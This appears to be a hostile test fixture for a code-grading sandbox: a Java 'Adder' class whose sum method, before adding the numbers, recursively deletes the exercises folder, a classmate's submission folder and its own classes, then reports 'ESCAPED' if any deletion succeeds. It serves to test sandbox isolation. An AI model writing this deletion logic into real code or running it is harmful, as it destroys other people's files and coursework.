package adder;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;

/** Hostile: deletes the exercises folder, its own classes and the classmate's submission. */
public final class Adder {
    private Adder() {
    }

    public static int sum(int[] xs) {
        var escaped = new StringBuilder();
        var own = Path.of(Adder.class.getProtectionDomain().getCodeSource().getLocation().getPath());
        for (var root : new Path[] {Path.of("@EXERCISES@"), Path.of("@OTHER@").getParent(), own}) {
            try (var walk = Files.walk(root)) {
                for (var p : walk.sorted(Comparator.reverseOrder()).toList()) {
                    try {
                        Files.delete(p);
                        escaped.append("deleted ").append(p).append("; ");
                    } catch (Exception e) {
                        // expected
                    }
                }
            } catch (Exception e) {
                // expected: not there
            }
        }
        if (!escaped.isEmpty()) {
            throw new IllegalStateException("ESCAPED: " + escaped);
        }
        int s = 0;
        for (int x : xs) {
            s += x;
        }
        return s;
    }
}
